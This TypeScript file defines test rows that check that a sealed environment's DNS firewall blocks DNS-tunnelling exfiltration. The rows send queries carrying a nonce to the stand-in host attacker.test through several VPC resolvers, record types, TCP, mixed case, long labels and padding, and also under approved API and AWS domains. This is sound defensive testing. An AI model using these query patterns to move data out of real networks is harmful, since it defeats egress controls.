import type { Row } from "../row";
import { asks, blocked, from, sealed } from "./ways";

const types = ["A", "AAAA", "TXT", "MX", "HTTPS", "SRV", "CNAME", "PTR"] as const;

/** The VPC's resolver, at each of its addresses and through the host's own. */
const resolvers = { own: "", "vpc-plus-two": "@10.0.0.2", "link-local": "@169.254.169.253" } as const;

const dnsFirewall = { layer: "dns-firewall", source: "O39" } as const;

/** Names as a way out: whatever is asked for, the query itself would carry it. */
export const nameRows: readonly Row[] = from(sealed, (place) => [
    ...types.map((type) => blocked(`tunnel-${type}`, place, asks("$NONCE.attacker.test", "", "-t", type), dnsFirewall)),
    ...Object.entries(resolvers).flatMap(([name, resolver]) => [
        blocked(`tunnel-${name}`, place, asks("$NONCE.t.attacker.test", resolver), dnsFirewall),
        blocked(`tunnel-tcp-${name}`, place, asks("$NONCE.t.attacker.test", resolver, "+tcp"), dnsFirewall),
    ]),
    blocked("tunnel-mixed-case", place, asks("$NONCE.AtTaCkEr.TeSt", ""), dnsFirewall),
    blocked(
        "tunnel-long",
        place,
        asks("$NONCE.$(printf a%.0s {1..60}).$(printf b%.0s {1..60}).attacker.test", ""),
        dnsFirewall,
    ),
    blocked("tunnel-padded", place, asks("$NONCE.attacker.test", "", "+padding=468"), dnsFirewall),
    blocked("below-approved", place, asks("$NONCE.api.anthropic.com", ""), { ...dnsFirewall, source: "O38" }),
    blocked("below-aws", place, asks("$NONCE.ec2.us-east-1.amazonaws.com", ""), dnsFirewall),
    blocked("foreign-bucket-name", place, asks("attackers-$NONCE.s3.us-east-1.amazonaws.com", ""), dnsFirewall),
]);
